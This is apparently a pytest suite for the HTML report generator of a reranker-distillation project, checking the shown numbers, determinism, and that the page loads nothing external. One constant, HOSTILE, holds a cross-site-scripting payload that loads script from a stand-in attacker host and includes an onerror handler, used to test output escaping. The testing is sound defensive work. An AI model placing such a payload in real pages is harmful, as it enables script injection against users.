"""The report: its numbers are the given ones, nothing is loaded from outside, and text stays text."""

import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
from flashranker.artifact import Calibration

from export.figures import thin, wins_figure
from export.report import ReportContent, write_report

HOSTILE = '"><script src="https://evil.example/x.js"></script><img src=x onerror=alert(1)> $a$ & {title}'


def _content() -> ReportContent:
    generator = np.random.default_rng(0)
    labels = generator.random(2000) < 0.2
    logits = np.where(labels, generator.normal(2, 1.5, 2000), generator.normal(-2, 1.5, 2000))
    stages = {"first stage": 0.5123, "teacher": 0.6411, "student": 0.6015, "fp32": 0.6014, "int8": 0.5998}
    gate = {"name": "size", "value": 4.2101, "limit": 5.0, "passed": True, "unit": "MB", "message": "within"}
    missed = {"name": "Kendall", "value": 0.9312, "limit": 0.98, "passed": False, "unit": ""}
    return ReportContent(
        title="nano",
        summary="A small reranker.",
        notices=["The base was cut out of the built-in backbone."],
        metrics={
            stage: {
                "nDCG@10": {"mean": value, "low": value - 0.0211, "high": value + 0.0233},
                "MRR@10": {"mean": value - 0.05},
            }
            for stage, value in stages.items()
        },
        gates=[gate, {**missed, "message": "0.0488 below"}],
        loss={"apart": [(step, 2.1 * 0.999**step) for step in range(1, 1500)]},
        dev_quality={"MRR@10": [(100, 0.31), (200, 0.42)], "nDCG@10": [(100, 0.4), (200, 0.5)]},
        logits=logits,
        labels=labels.astype(int),
        calibration=Calibration(a=1.25, b=-1.5),
        latency={
            "torch": {"median": 412.34, "low": 401.0, "high": 455.5},
            "fp32": {"median": 187.0, "low": 180.2, "high": 201.9},
            "int8": {"median": 65.43, "low": 64.1, "high": 71.2},
        },
        latency_note="2 threads, 100 passages of 112 tokens.",
        sizes={"onnx/model.onnx": 4210123},
        lineage={"base": {"name": "builtin", "licence": "Apache-2.0"}},
        settings={"seed": 7, "learning_rate": 3e-4, "stages": ["warm up", "distil"]},
        command="python -m recipes.distill --tier nano",
    )


class Document(HTMLParser):
    """Tags with their attributes, and the text outside style elements."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        if self.tags and self.tags[-1][0] != "style":
            self.text += data


@pytest.fixture(scope="module")
def html(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("report") / "report.html"
    write_report(path, _content())
    return path.read_text(encoding="utf-8")


def test_the_given_numbers_are_shown(html: str) -> None:
    text = Document(html).text
    for shown in [
        "0.5123 (0.4912 to 0.5356)", "0.5998 (0.5787 to 0.6231)", "0.5498",  # quality
        "4.2101 MB", "0.9312", "0.98", "0.0488 below", "FAIL", "pass",  # gates
        "412.3", "65.4", "201.9", "4,210,123",
        "sigmoid(1.25 x logit -1.5)", "base.licence", "0.0003", "warm up, distil", "--tier nano",
        "The base was cut out of the built-in backbone.", "2 threads, 100 passages",
    ]:  # fmt: skip
        assert shown in text, shown


def test_calibration_is_judged_by_hand_computed_numbers(tmp_path: Path) -> None:
    odds = float(np.log(3))  # probability 3/4
    content = ReportContent("t", logits=[odds, odds, -odds, -odds], labels=[1, 0, 0, 0], calibration=Calibration(1, 0))
    write_report(tmp_path / "report.html", content)
    text = Document((tmp_path / "report.html").read_text()).text
    assert "calibration error 0.2500" in text  # (|1/2 - 3/4| + |0 - 1/4|) / 2
    assert "Brier score 0.1875" in text  # (1/16 + 9/16 + 1/16 + 1/16) / 4


def test_nothing_is_loaded_from_anywhere(html: str) -> None:
    document = Document(html)
    assert {"script", "link", "img", "iframe", "object", "image", "base"}.isdisjoint(tag for tag, _ in document.tags)
    for _, attributes in document.tags:
        for name, value in attributes.items():
            if name.endswith(("src", "href", "data", "action")):
                assert (value or "").startswith("#"), value
    assert not re.search(r"https?://|@import|url\((?!#)", html)
    policies = [attributes["content"] for tag, attributes in document.tags if "http-equiv" in attributes]
    assert policies == ["default-src 'none'; style-src 'unsafe-inline'"]


def test_every_figure_is_there_once_with_ids_of_its_own(html: str) -> None:
    document = Document(html)
    labels = [attributes["aria-label"] for tag, attributes in document.tags if tag == "svg"]
    assert labels == [
        "nDCG@10 by stage", "MRR@10 by stage", "loss, apart over training steps",
        "dev MRR@10, nDCG@10 over training steps", "logits of relevant and of other candidates",
        "reliability of the calibrated probabilities", "latency",
    ]  # fmt: skip
    paths = [attributes["id"] for tag, attributes in document.tags if tag == "clippath"]
    assert len(paths) == len(set(paths)) >= 5  # the page is one document: equal ids would clip by each other's box
    assert "#010203" not in html
    assert "currentColor" in html


def test_hostile_text_stays_text_everywhere(tmp_path: Path) -> None:
    value = {"mean": 0.5, "low": 0.4, "high": 0.6}
    gate = {"name": HOSTILE, "value": 1.0, "limit": 1.0, "passed": True, "unit": HOSTILE, "message": HOSTILE}
    content = ReportContent(
        title=HOSTILE,
        summary=HOSTILE,
        notices=[HOSTILE],
        metrics={HOSTILE: {HOSTILE: value}},
        gates=[gate],
        dev_quality={HOSTILE: [(1, 0.5)], "b": [(1, 0.5)]},
        latency={HOSTILE: {"median": 1.0, "low": 1.0, "high": 1.0}},
        latency_note=HOSTILE,
        sizes={HOSTILE: 1},
        lineage={HOSTILE: {HOSTILE: HOSTILE}},
        settings={HOSTILE: [HOSTILE]},
        command=HOSTILE,
    )
    write_report(tmp_path / "report.html", content)
    document = Document((tmp_path / "report.html").read_text(encoding="utf-8"))
    assert {"script", "img"}.isdisjoint(tag for tag, _ in document.tags)
    assert not any("onerror" in attributes for _, attributes in document.tags)
    assert document.text.count(HOSTILE) >= 16


def test_equal_content_gives_equal_bytes(html: str, tmp_path: Path) -> None:
    write_report(tmp_path / "again.html", _content())
    assert (tmp_path / "again.html").read_text(encoding="utf-8") == html
    write_report(tmp_path / "other.html", replace(_content(), loss={"together": [(1, 0.5), (2, 0.25)]}))
    assert (tmp_path / "other.html").read_text(encoding="utf-8") != html


def test_what_is_empty_leaves_its_section_out(tmp_path: Path) -> None:
    write_report(tmp_path / "report.html", ReportContent("only a title"))
    tags = [tag for tag, _ in Document((tmp_path / "report.html").read_text()).tags]
    assert "h1" in tags
    assert {"section", "svg", "table"}.isdisjoint(tags)


def test_scores_that_do_not_match_their_labels_are_refused(tmp_path: Path) -> None:
    for logits, labels in [([1.0, 2.0], [1]), ([float("nan")], [1])]:
        with pytest.raises(ValueError, match="expected as many, and finite"):
            write_report(tmp_path / "report.html", ReportContent("t", logits=logits, labels=labels))
    assert not list(tmp_path.iterdir())


def test_long_curves_are_averaged_not_cut() -> None:
    points = np.array([(step, step % 2) for step in range(8000)], dtype=np.float64)
    steps, values = thin(points)
    assert len(steps) == 400
    np.testing.assert_allclose(values, 0.5)
    assert steps[0] == pytest.approx(9.5)
    assert steps[-1] == pytest.approx(7989.5)
    np.testing.assert_array_equal(thin(points[:3])[1], [0, 1, 0])


def test_wins_and_losses_are_counted_and_drawn_from_best_to_worst() -> None:
    svg = wins_figure("ours - $theirs$", [-0.25, 0.5, 0.0, 0.125])
    assert all(
        text in svg for text in ("better (2)", "worse (1)", "4 queries, best first; alike in 1", "ours - $theirs$")
    )
    assert svg == wins_figure("ours - $theirs$", [0.5, 0.125, 0.0, -0.25])
    assert svg != wins_figure("ours - $theirs$", [0.5, 0.125, 0.0, -0.5])
